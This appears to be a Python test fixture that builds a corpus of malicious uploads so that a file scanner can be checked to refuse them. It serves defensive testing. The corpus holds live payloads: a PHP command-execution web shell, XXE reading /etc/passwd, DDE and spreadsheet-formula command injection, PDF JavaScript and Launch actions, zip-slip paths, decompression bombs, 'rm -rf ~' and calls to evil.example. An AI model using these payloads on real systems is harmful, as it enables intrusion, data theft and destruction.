"""Files made to do harm, made here and nowhere kept: each with the name it would come by. None of them may be served before it is known to be clean."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.clamd import EICAR
from tests.uploads import (
    docx,
    docx_members,
    jpeg,
    odt,
    odt_members,
    packed,
    pdf,
    png,
    rels,
    types,
    xlsx,
    xlsx_members,
    zipped,
)

Made = tuple[str, bytes]
HTML = b"<!DOCTYPE html><html><body><script>fetch('/canary')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"><script>fetch(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
KINDS = ("pdf", "docx", "odt", "xlsx", "jpg", "png", "txt", "csv")
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def corpus() -> list[Made]:
    makers = (viruses, disguises, other_kinds, polyglots, pictures, pdfs, macros, relations, archives, bombs, markup, texts, paths)
    return [each for maker in makers for each in maker()]


def viruses() -> Iterator[Made]:
    yield "eicar.txt", EICAR
    yield "eicar.csv", EICAR + b"\r\n"
    yield "behind.txt", b"Dear all,\r\n" + EICAR
    yield "eicar.com", EICAR
    yield "eicar.zip", zipped({"eicar.com": EICAR})
    yield "eicar.docx", docx(**{"word/media/image1.bin": EICAR})
    yield "text.docx", docx(text="A " + EICAR.decode().replace("&", "") + " B")
    yield "eicar.xlsx", zipped(xlsx_members() | {"xl/media/image1.dat": EICAR})
    yield "eicar.odt", zipped(odt_members() | {"Pictures/1.png": EICAR})
    yield "eicar.pdf", pdf(packed(EICAR, kind=b"/Length1 1"))
    yield "plain.pdf", pdf(b"9 0 obj << >> stream\n" + EICAR + b"\nendstream endobj")
    yield "eicar.jpg", jpeg(comment=EICAR)
    yield "eicar.png", png(2, 2, struct.pack(">I", len(EICAR)) + b"tEXt" + EICAR + struct.pack(">I", zlib.crc32(b"tEXt" + EICAR)))


def disguises() -> Iterator[Made]:
    """The right beginning under a wrong name, both ways."""
    honest = {"pdf": pdf(), "docx": docx(), "jpg": jpeg(), "png": png()}
    for kind, data in honest.items():
        for name in KINDS:
            if name != kind:
                yield f"{kind}-as.{name}", data
    for name in KINDS[:6]:
        yield f"words.{name}", b"only words"
        yield f"program.{name}", b"MZ\x90\0" + b"\0" * 200
    yield "sheet.docx", xlsx()
    yield "words.xlsx", docx()
    yield "words.odt", docx()
    yield "odt.docx", odt()


def other_kinds() -> Iterator[Made]:
    for kind in (
        "exe",
        "dll",
        "js",
        "vbs",
        "bat",
        "ps1",
        "hta",
        "jar",
        "lnk",
        "html",
        "htm",
        "svg",
        "xhtml",
        "xml",
        "zip",
        "7z",
        "iso",
        "doc",
        "xls",
    ):
        yield f"file.{kind}", b"MZ" if kind in {"exe", "dll"} else HTML
    for kind in ("docm", "xlsm", "dotm", "pptx", "rtf", "gif", "webp", "heic", "mp4", "eml", "msg", "ics", "md", "json", "swf"):
        yield f"file.{kind}", b"anything"
    yield "invoice.pdf.exe", pdf()
    yield "none", pdf()
    yield ".pdf", pdf()
    yield "photo.jpg.svg", SVG


def polyglots() -> Iterator[Made]:
    inner = zipped({"a.class": b"\xca\xfe\xba\xbe"})
    for name, data in (("a.jpg", jpeg()), ("a.png", png()), ("a.pdf", pdf())):
        yield f"zip-{name}", data + inner
        yield f"html-{name}", data + HTML
        yield f"svg-{name}", data + SVG
        yield f"php-{name}", data + b"<?php system($_GET['c']); ?>"
    yield "comment.jpg", jpeg(comment=HTML)
    yield "text.png", png(2, 2, struct.pack(">I", len(HTML)) + b"tEXt" + HTML + b"\0\0\0\0")
    yield "before.docx", b"MZ" + docx()
    yield "pdf-before.docx", pdf() + docx()
    yield "behind.docx", docx() + HTML
    yield "twice.docx", docx() + docx()
    yield "html.txt", HTML
    yield "svg.txt", SVG
    yield "html.csv", b"a,b\r\n" + HTML
    yield "late.txt", b"words " * 60_000 + b"<script>fetch(1)</script>"
    yield "split.txt", b"w" * (256 * 1024 - 4) + b"<script>fetch(1)</script>"
    yield "wide.txt", ("\ufeff" + HTML.decode()).encode("utf-16-le")
    yield "late.pdf", pdf(head=b"\n" * 20 + b"%PDF-1.7\n")


def pictures() -> Iterator[Made]:
    yield "flood.png", png(50_000, 50_000)
    yield "long.png", png(2_000_000, 1)
    yield "flat.png", png(0, 10)
    yield "flood.jpg", jpeg(50_000, 50_000)
    yield "flat.jpg", jpeg(0, 0)
    yield "cut.png", png()[:-12]
    yield "cut.jpg", jpeg()[:40]
    yield "no-end.jpg", jpeg()[:-2]
    yield "bad.png", png()[:33] + struct.pack(">I", 0x7FFFFFFF) + b"IDAT" + b"x"
    yield "head.png", b"\x89PNG\r\n\x1a\n"
    yield "head.jpg", b"\xff\xd8\xff"
    yield "behind.png", png() + b"one more byte"
    yield "fill.jpg", b"\xff\xd8" + b"\xff" * 300_000


def pdfs() -> Iterator[Made]:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    for number, action in enumerate(
        (
            script,
            b"<< /S /J#61vaScript /#4aS (app.alert(1)) >>",
            b"<< /S /Launch /F (cmd.exe) >>",
            b"<< /S /Laun#63h /F (cmd.exe) >>",
            b"<< /Type /Filespec /EF << /F 5 0 R >> >> << /Type /EmbeddedFile >>",
            b"<< /Names << /EmbeddedFiles 4 0 R >> >>",
            b"<< /AcroForm << /XFA 5 0 R >> >>",
            b"<< /S /SubmitForm /F (http://evil.example/) >>",
            b"<< /S /ImportData /F (x) >>",
            b"<< /S /GoToE /T 3 0 R >>",
            b"<< /Subtype /RichMedia >>",
            b"<< /S /Rendition /JS 4 0 R >>",
            b"<< /JS\n5 0 R >>",
        )
    ):
        yield f"active{number}.pdf", pdf(b"7 0 obj " + action + b" endobj")
        yield f"packed{number}.pdf", pdf(packed(b"7 0 " + action))
    yield "spelt.pdf", pdf(packed(b"7 0 " + script, kind=b"/Type /Obj#53tm"))
    yield "comment.pdf", pdf(b"% stream\n7 0 obj " + script + b" endobj\n% endstream")
    yield "odd.pdf", pdf(packed(b"7 0 x", filters=b"/Filter [/ASCII85Decode /FlateDecode]"))
    yield "lzw.pdf", pdf(packed(b"7 0 x", filters=b"/Filter /LZWDecode"))
    yield "broken.pdf", pdf(b"9 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nxxxx\nendstream endobj")
    yield "locked.pdf", pdf(trailer=b"<< /Root 1 0 R /Encrypt 5 0 R >>")
    yield "cut.pdf", pdf()[:-8]
    yield "behind.pdf", pdf() + b"x" * 5000
    yield "bomb.pdf", pdf(packed(b"\0" * 30_000_000))
    yield "many.pdf", pdf(*[packed(b"\0" * 2_000_000, kind=b"/Length1 1") for _ in range(90)])


def macros() -> Iterator[Made]:
    yield "vba.docx", docx(**{"word/vbaProject.bin": OLE})
    yield "renamed.docx", docx(**{"word/other.bin": OLE})
    yield "types.docx", docx(**{"[Content_Types].xml": types("word/document.xml", MACRO)})
    yield "both.docx", docx(**{"[Content_Types].xml": types("word/document.xml", MACRO) + "<!-- wordprocessingml.document.main+xml -->"})
    yield "control.docx", docx(**{"word/activeX/activeX1.xml": "<x/>"})
    yield "keys.docx", docx(**{"customUI/customUI.xml": "<x/>"})
    yield "vba.xlsx", zipped(xlsx_members() | {"xl/vbaProject.bin": OLE})
    yield "old.xlsx", zipped(xlsx_members() | {"xl/macrosheets/sheet1.xml": "<x/>"})
    yield "basic.odt", zipped(odt_members() | {"Basic/Standard/Module1.xml": "<x/>"})
    yield "python.odt", zipped(odt_members() | {"Scripts/python/x.txt": "import os"})
    event = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x?language=Basic"/>'
    yield "event.odt", zipped(odt_members() | {"content.xml": f"<office:document-content>{event}</office:document-content>"})
    for name in ("oleObject1.bin", "a.exe", "a.docm", "a.vbs", "a.lnk", "a.html", "a.zip"):
        yield f"inside-{name}.docx", docx(**{f"word/embeddings/{name}": b"x"})
    for name, start in (("mz", b"MZ"), ("elf", b"\x7fELF"), ("ole", OLE), ("pdf", pdf()), ("zip", zipped({"a": b"b"}))):
        yield f"media-{name}.docx", docx(**{"word/media/image1.png": start})
    yield "workbook.docx", docx(**{"word/embeddings/sheet.xlsx": zipped(xlsx_members() | {"xl/vbaProject.bin": OLE})})
    field = "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"
    yield "dde.docx", docx(**{"word/document.xml": f"<w:document>{field}</w:document>"})
    yield "link.odt", zipped(odt_members() | {"content.xml": '<x><text:dde-connection-decl office:dde-application="cmd"/></x>'})


def relations() -> Iterator[Made]:
    for number, relation in enumerate(
        (
            ("attachedTemplate", "http://evil.example/t.dotm", True),
            ("oleObject", "http://evil.example/x", True),
            ("image", "http://evil.example/x.png", True),
            ("image", "file://evil.example/share/x.png", True),
            ("frame", "http://evil.example/", True),
            ("subDocument", "http://evil.example/", True),
            ("aFChunk", "chunk.txt", False),
            ("hyperlink", "file://evil.example/share", True),
            ("hyperlink", "javascript:alert(1)", True),
            ("hyperlink", "ms-msdt:/id x", True),
            ("image", "\\\\evil.example\\share\\x.png", False),
            ("image", "http://evil.example/x.png", False),
            ("control", "x.bin", False),
        )
    ):
        yield f"relation{number}.docx", docx(**{"word/_rels/document.xml.rels": rels(relation)})
    yield "external.xlsx", zipped(xlsx_members() | {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"})
    yield "broken.docx", docx(**{"word/_rels/document.xml.rels": "<Relationships"})
    image = '<draw:image xlink:href="http://evil.example/x.png"/>'
    yield "image.odt", zipped(odt_members() | {"content.xml": f"<x>{image}</x>"})
    yield "section.odt", zipped(odt_members() | {"content.xml": '<x><text:section-source xlink:href="file:///etc/passwd"/></x>'})


def archives() -> Iterator[Made]:
    for number, name in enumerate(
        (
            "../../evil.xml",
            "/etc/evil.xml",
            "..\\evil.xml",
            "C:\\evil.xml",
            "word/../../x.xml",
            "a//b.xml",
            "./a.xml",
            "a\x01b.xml",
            "x" * 300,
        )
    ):
        yield f"slip{number}.docx", docx(**{name: b"x"})
    for number, mode in enumerate((0o120777, 0o020666, 0o010644)):
        yield f"link{number}.docx", with_entry(external_attr=mode << 16)
    yield "comment.docx", commented()
    yield "double.docx", doubled()
    yield "empty.docx", zipped({})
    yield "no-types.docx", zipped({"word/document.xml": "<x/>"})
    yield "no-main.docx", zipped({"[Content_Types].xml": types("word/document.xml", MACRO), "_rels/.rels": rels()})
    yield "cut.docx", docx()[:-30]
    yield "damaged.docx", docx().replace(b"PK\x03\x04", b"PK\x03\x05", 2)
    yield "locked.docx", flagged(docx())
    yield (
        "locked.odt",
        zipped(odt_members() | {"META-INF/manifest.xml": "<manifest:manifest><manifest:encryption-data/></manifest:manifest>"}),
    )
    yield "locked.xlsx", OLE + "EncryptedPackage".encode("utf-16-le")
    yield "old.docx", OLE
    yield "bzip.docx", zipped(docx_members(), method=zipfile.ZIP_BZIP2)
    yield "lzma.docx", zipped(docx_members(), method=zipfile.ZIP_LZMA)


def bombs() -> Iterator[Made]:
    yield "ratio.docx", docx(**{"word/big.xml": b" " * 50_000_000})
    yield (
        "total.docx",
        docx(
            **{f"word/big{n}.xml": base64.b64encode(b"ab" * 30) * 200_000 for n in range(2)}
            | {f"word/more{n}.xml": b"0123456789" * 5_000_000 for n in range(3)}
        ),
    )
    yield "many.docx", docx(**{f"word/{n}.xml": b"" for n in range(3_100)})
    yield "overlap.docx", overlapping()
    yield "lie.docx", lying()
    yield "large.pdf", pdf(b"x" * (10 * 1024 * 1024))
    yield "large.txt", b"a" * (10 * 1024 * 1024 + 1)


def markup() -> Iterator[Made]:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
    yield "laughs.docx", docx(**{"word/document.xml": laughs})
    yield "outside.docx", docx(**{"word/document.xml": outside})
    yield "wide.docx", docx(**{"word/document.xml": ("\ufeff" + outside).encode("utf-16-le")})
    yield "relations.docx", docx(**{"_rels/.rels": outside})
    yield "laughs.xlsx", zipped(xlsx_members() | {"xl/workbook.xml": laughs})
    yield "laughs.odt", zipped(odt_members() | {"content.xml": laughs})
    yield "picture.docx", docx(**{"word/media/image1.svg": SVG})


def texts() -> Iterator[Made]:
    for kind in ("pdf", "docx", "odt", "xlsx", "jpg", "png", "txt", "csv"):
        yield f"empty.{kind}", b""
    yield "nul.txt", b"words\0words"
    yield "binary.csv", bytes(range(256))
    yield "escape.txt", b"words\x08\x08\x08evil"
    yield "rtf.txt", b"{\\rtf1\\ansi{\\object\\objocx}}"
    yield "shell.txt", b"#!/bin/sh\nrm -rf ~\n"
    yield "xml.txt", b'<?xml version="1.0"?><x/>'
    yield "link.txt", b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n"
    yield "registry.txt", b"Windows Registry Editor Version 5.00\r\n"
    for number, cell in enumerate(
        (
            "=cmd|' /C calc'!A0",
            "+cmd|'/C calc'!A0",
            '=HYPERLINK("http://evil.example","x")',
            '=WEBSERVICE("http://evil.example")',
            "@SUM(1)*cmd|'/C calc'!A0",
            "=DDE(1)",
        )
    ):
        yield f"formula{number}.csv", f"a,b\r\n1,{cell}\r\n".encode()


def paths() -> Iterator[Made]:
    """What a name must never become; the bytes are harmful too, so that each is refused whatever its name turns into."""
    for name in (
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/cron.d/x",
        "CON",
        "aux.txt.exe",
        "a\0b.exe",
        "gpj.\u202etxt.exe",
        "x" * 5000 + ".exe",
        "<script>.html",
        "%2e%2e%2fx.php",
        "a\r\nSet-Cookie: x=1.html",
        " .htaccess",
        "\u200b.exe",
    ):
        yield name, HTML


def with_entry(external_attr: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in docx_members().items():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, external_attr
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def commented() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = HTML
    return out.getvalue()


def doubled() -> bytes:
    data = docx(**{"word/documenX.xml": "<other/>"})
    return data.replace(b"word/documenX.xml", b"word/document.xml")


def flagged(data: bytes) -> bytes:
    """Every entry says that it is encrypted."""
    out = bytearray(data)
    for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(magic)
        while place >= 0:
            out[place + at] |= 1
            place = out.find(magic, place + 4)
    return bytes(out)


def overlapping() -> bytes:
    """Two entries of the list that share one entry's bytes."""
    data = bytearray(docx(**{"word/a.xml": b"a" * 1000, "word/b.xml": b"b" * 1000}))
    first = data.find(b"PK\x03\x04")
    for number in range(2):
        place = data.rfind(b"word/a.xml" if number == 0 else b"word/b.xml") - 46
        if number == 0:
            offset = struct.unpack("<I", data[place + 42 : place + 46])[0]
        else:
            data[place + 42 : place + 46] = struct.pack("<I", offset)
    assert first == 0
    return bytes(data)


def lying() -> bytes:
    """An entry that is longer than the list says."""
    data = bytearray(docx(**{"word/a.xml": b"a" * 100_000}))
    place = data.rfind(b"word/a.xml") - 46
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)
